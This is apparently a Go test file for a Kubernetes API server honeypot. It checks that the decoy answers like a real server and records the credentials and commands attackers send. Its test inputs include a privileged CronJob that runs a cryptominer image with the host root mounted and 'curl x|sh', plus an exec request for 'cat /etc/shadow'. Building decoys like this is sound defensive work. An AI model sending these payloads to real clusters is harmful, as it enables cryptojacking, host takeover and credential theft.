package kubernetes_test

import (
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os/exec"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"decnet/decoy/kubernetes"
	"decnet/decoy/traptest"
)

func bench(t *testing.T) *traptest.Bench {
	t.Helper()
	return traptest.New(t, kubernetes.New, traptest.Options{Service: "k8s"})
}

// ask sends one request with further headers over TLS.
func ask(t *testing.T, b *traptest.Bench, method, path, more, body string) (head, rest string) {
	t.Helper()
	c := tls.Client(b.Dial(6443), &tls.Config{InsecureSkipVerify: true})
	return exchange(t, c, method, path, more, body)
}

func exchange(t *testing.T, c net.Conn, method, path, more, body string) (head, rest string) {
	t.Helper()
	_, err := fmt.Fprintf(c, "%s %s HTTP/1.1\r\nHost: h\r\nConnection: close\r\nContent-Length: %d\r\n%s\r\n%s", method, path, len(body), more, body)
	require.NoError(t, err)
	got, err := io.ReadAll(c)
	require.NoError(t, err)
	head, rest, _ = strings.Cut(string(got), "\r\n\r\n")
	return head, rest
}

func TestVersion_IsShownToEverybody(t *testing.T) {
	t.Parallel()
	b := bench(t)
	head, body := ask(t, b, "GET", "/version", "", "")
	assert.Contains(t, body, "{\n  \"major\": \"1\",\n  \"minor\": \"28\",\n  \"gitVersion\": \"v1.28.2\",")
	var names []string
	for _, l := range strings.Split(head, "\r\n")[1:] {
		name, _, _ := strings.Cut(l, ":")
		names = append(names, name)
	}
	assert.Equal(t, []string{
		"Audit-Id", "Cache-Control", "Content-Type", "X-Kubernetes-Pf-Flowschema-Uid", "X-Kubernetes-Pf-Prioritylevel-Uid",
		"Date", "Content-Length", "Connection",
	}, names)
	_, body = exchange(t, b.Dial(8080), "GET", "/healthz", "", "")
	assert.Equal(t, "ok", body)
	b.Wait("tls_client_hello")
}

func TestAnonymous_IsForbiddenInTheWordsOfTheServer(t *testing.T) {
	t.Parallel()
	b := bench(t)
	for request, want := range map[string]string{
		"GET /api":                             `forbidden: User "system:anonymous" cannot get path "/api"`,
		"GET /":                                `forbidden: User "system:anonymous" cannot get path "/"`,
		"GET /api/v1/pods":                     `pods is forbidden: User "system:anonymous" cannot list resource "pods" in API group "" at the cluster scope`,
		"GET /api/v1/secrets/":                 `secrets is forbidden: User "system:anonymous" cannot list resource "secrets" in API group "" at the cluster scope`,
		"POST /api/v1/namespaces/default/pods": `pods is forbidden: User "system:anonymous" cannot create resource "pods" in API group "" in the namespace "default"`,
		"POST /api/v1/namespaces/a/pods/b/exec?command=x": `pods "b" is forbidden: User "system:anonymous" cannot create resource "pods/exec" in API group "" in the namespace "a"`,
		"GET /apis/apps/v1/deployments":                   `deployments.apps is forbidden: User "system:anonymous" cannot list resource "deployments" in API group "apps" at the cluster scope`,
		"GET /api/v1/namespaces":                          `namespaces is forbidden: User "system:anonymous" cannot list resource "namespaces" in API group "" at the cluster scope`,
		"DELETE /api/v1/namespaces/kube-system":           `namespaces "kube-system" is forbidden: User "system:anonymous" cannot delete resource "namespaces" in API group "" in the namespace "kube-system"`,
	} {
		method, path, _ := strings.Cut(request, " ")
		head, body := ask(t, b, method, path, "", "")
		assert.Contains(t, head, "HTTP/1.1 403 Forbidden\r\n", request)
		var got struct {
			Kind, Message, Reason string
			Code                  int
		}
		require.NoError(t, json.Unmarshal([]byte(body), &got))
		assert.Equal(t, want, got.Message)
		assert.Equal(t, "Status", got.Kind)
		assert.Equal(t, 403, got.Code)
	}
	_, body := ask(t, b, "GET", "/api", "", "")
	assert.Equal(t, `{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Failure","message":"forbidden: User \"system:anonymous\" cannot get path \"/api\"","reason":"Forbidden","details":{},"code":403}`+"\n", body) //nolint:testifylint // the order is part of it
}

func TestTokens_AreRecordedAndRefused(t *testing.T) {
	t.Parallel()
	b := bench(t)
	head, body := ask(t, b, "GET", "/api/v1/pods", "User-Agent: curl/8.0\r\nAuthorization: Bearer eyJhbGciOi.x.y\r\n", "")
	assert.Contains(t, head, "401 Unauthorized")
	assert.Equal(t, "{\n  \"kind\": \"Status\",\n  \"apiVersion\": \"v1\",\n  \"metadata\": {},\n  \"status\": \"Failure\",\n"+ //nolint:testifylint // the form is part of it
		"  \"message\": \"Unauthorized\",\n  \"reason\": \"Unauthorized\",\n  \"code\": 401\n}", body)
	f := traptest.Fields(b.Wait("request"))
	assert.Equal(t, "eyJhbGciOi.x.y", f["token"])
	assert.Equal(t, "Bearer eyJhbGciOi.x.y", f["auth"])
	assert.Equal(t, "/api/v1/pods", f["path"])
	ask(t, b, "GET", "/api", "Authorization: Basic YWRtaW46c2VjcmV0\r\n", "")
	assert.Equal(t, "secret", traptest.Fields(b.WaitN("request", 2)[1])["password"])
}

func TestCommands_OfPodsAndExec(t *testing.T) {
	t.Parallel()
	b := bench(t)
	ask(t, b, "POST", "/apis/batch/v1/namespaces/default/cronjobs", "Content-Type: application/json\r\n",
		`{"kind":"CronJob","spec":{"jobTemplate":{"spec":{"template":{"spec":{"hostPID":true,"volumes":[{"hostPath":{"path":"/"}}],
		"containers":[{"name":"m","image":"xmrig","command":["sh","-c"],"args":["curl x|sh"],"securityContext":{"privileged":true}}]}}}}}}`)
	f := traptest.Fields(b.Wait("command"))
	assert.Equal(t, "sh -c curl x|sh", f["command"])
	assert.Equal(t, "xmrig", f["image"])
	assert.Equal(t, "/", f["mounts"])
	assert.Equal(t, "true", f["privileged"])
	assert.Equal(t, "true", f["host_pid"])
	assert.NotContains(t, f, "host_network")
	ask(t, b, "POST", "/api/v1/namespaces/a/pods/b/exec?command=cat&command=%2Fetc%2Fshadow&stdin=true", "", "")
	assert.Equal(t, "cat /etc/shadow", traptest.Fields(b.WaitN("command", 2)[1])["command"])
}

func TestPlainText_OnTheEncryptedPort(t *testing.T) {
	t.Parallel()
	b := bench(t)
	c := b.Dial(6443)
	_, err := io.WriteString(c, "GET / HTTP/1.0\r\n\r\n")
	require.NoError(t, err)
	got, err := io.ReadAll(c)
	require.NoError(t, err)
	assert.Equal(t, "HTTP/1.0 400 Bad Request\r\n\r\nClient sent an HTTP request to an HTTPS server.\n", string(got))
}

func TestCurl_Agrees(t *testing.T) {
	t.Parallel()
	curl, err := exec.LookPath("curl")
	if err != nil {
		t.Skip("curl is not installed")
	}
	b := bench(t)
	out, err := exec.CommandContext(t.Context(), curl, "-sSkv", "--max-time", "10", "https://"+b.Listen(6443)+"/version").CombinedOutput()
	require.NoErrorf(t, err, "%s", out)
	assert.Contains(t, string(out), "subject: CN=kube-apiserver")
	assert.Contains(t, string(out), "issuer: CN=kubernetes")
	assert.Contains(t, string(out), `"gitVersion": "v1.28.2"`)
}
